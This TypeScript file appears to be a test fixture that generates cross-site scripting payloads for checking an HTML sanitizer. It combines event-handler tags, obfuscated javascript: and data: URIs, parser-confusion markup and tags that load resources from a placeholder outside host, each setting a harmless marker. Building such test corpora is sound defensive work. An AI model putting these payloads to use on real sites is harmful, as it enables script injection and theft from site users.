const mark = 'window.hostileRan=true';
const canary = 'https://canary.invalid';

const carriersOfEvents = [
  '<img src="x" EVENT>',
  '<svg EVENT><circle r="1"></circle></svg>',
  '<svg><animate attributeName="x" dur="1s" EVENT></animate></svg>',
  '<math EVENT><mi>a</mi></math>',
  '<video src="x" autoplay EVENT></video>',
  '<audio EVENT><source src="x" EVENT></audio>',
  '<details open EVENT><summary>a</summary></details>',
  '<div contenteditable="true" style="animation: a 1s" EVENT>a</div>',
  '<a href="https://example.com/" EVENT>a</a>',
  '<table EVENT><tbody><tr><td EVENT>a</td></tr></tbody></table>',
  '<object data="x" EVENT></object>',
  '<iframe src="about:blank" EVENT></iframe>',
] as const;
const events = ['onerror', 'onload', 'onfocus', 'onclick', 'onpointerenter', 'ontoggle', 'onanimationstart', 'onbegin', 'onbeforeinput', 'ONERROR'] as const;

const carriersOfAddresses = [
  '<a href="ADDRESS">a</a>',
  '<map><area shape="default" href="ADDRESS"></map>',
  '<iframe src="ADDRESS"></iframe>',
  '<object data="ADDRESS"></object>',
  '<embed src="ADDRESS">',
  '<form action="ADDRESS"><button>a</button></form>',
  '<form><button formaction="ADDRESS">a</button></form>',
  '<svg><a xlink:href="ADDRESS"><text y="9">a</text></a></svg>',
  '<svg><use href="ADDRESS"></use></svg>',
  '<math href="ADDRESS"><mi>a</mi></math>',
] as const;
const addresses = [
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}`,
  `java&#9;script:${mark}`,
  `java&#10;script:${mark}`,
  `&#1;javascript:${mark}`,
  `&#106;avascript&colon;${mark}`,
  `vbscript:${mark}`,
  `data:text/html,&lt;script&gt;parent.${mark}&lt;/script&gt;`,
  `data:image/svg+xml,&lt;svg onload='${mark}'/&gt;`,
] as const;

/** Markup that parsers read differently: each is a place for a picture that fails to load. */
const confusions = [
  '<svg><style><!--</style>PICTURE--></style></svg>',
  '<svg><title>PICTURE</title></svg>',
  '<svg><desc>PICTURE</desc></svg>',
  '<svg><foreignObject>PICTURE</foreignObject></svg>',
  '<math><mtext>PICTURE</mtext></math>',
  '<math><mtext><table><mglyph><style><![CDATA[</style>PICTURE]]></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html">PICTURE</annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>PICTURE"></style></mtext></svg></mglyph></form></mtext></math>',
  '<noscript><p title="</noscript>PICTURE"></p></noscript>',
  '<noembed><p title="</noembed>PICTURE"></p></noembed>',
  '<noframes><p title="</noframes>PICTURE"></p></noframes>',
  '<template>PICTURE</template>',
  '<xmp><p title="</xmp>PICTURE"></p></xmp>',
  '<select><option>PICTURE</option></select>PICTURE',
  '<table><caption>PICTURE</caption></table>',
  '<p title="&quot;&gt;PICTURE">a</p>',
  '<custom-element is="x">PICTURE</custom-element>',
  '<b><i></b>PICTURE</i>',
  '<!-- a --!>PICTURE<!-- b -->',
  '<![CDATA[ a ]]>PICTURE',
  '<?xml a ?>PICTURE',
] as const;
const pictures = [`<img src="x" onerror="${mark}">`, `<img src=x onerror=${mark}>`, `<img/src='x'/onerror='${mark}'/>`] as const;

/** Markup that requests another host without a press. */
const calls = [
  `<link rel="stylesheet" href="${canary}/a.css">`,
  `<link rel="prefetch" href="${canary}/a">`,
  `<style>@import '${canary}/b.css'; p { background: url(${canary}/c) }</style>`,
  `<p style="background: url(${canary}/d)">a</p>`,
  `<table background="${canary}/e"><tbody><tr><td background="${canary}/f">a</td></tr></tbody></table>`,
  `<video poster="${canary}/g" src="${canary}/h"></video>`,
  `<img alt="" srcset="${canary}/i 2x">`,
  `<picture><source srcset="${canary}/j"></picture>`,
  `<svg><image href="${canary}/k"></image><filter><feImage href="${canary}/l"></feImage></filter></svg>`,
  `<object data="${canary}/m"></object>`,
  `<meta http-equiv="refresh" content="0;url=${canary}/n">`,
  `<base href="${canary}/">`,
  `<script src="${canary}/o.js"></script>`,
] as const;

/**
 * Bodies of documents that each run `window.hostileRan = true`, or request a foreign host, in a browser that shows them as
 * they are (X02). Combines each effect with each disguise.
 */
export const hostileDocuments: readonly string[] = [
  ...carriersOfEvents.flatMap((carrier) => events.map((event) => carrier.replaceAll('EVENT', `${event}="${mark}"`))),
  ...carriersOfAddresses.flatMap((carrier) => addresses.map((address) => carrier.replaceAll('ADDRESS', address))),
  ...confusions.flatMap((confusion) => pictures.map((picture) => confusion.replaceAll('PICTURE', picture))),
  ...calls,
];
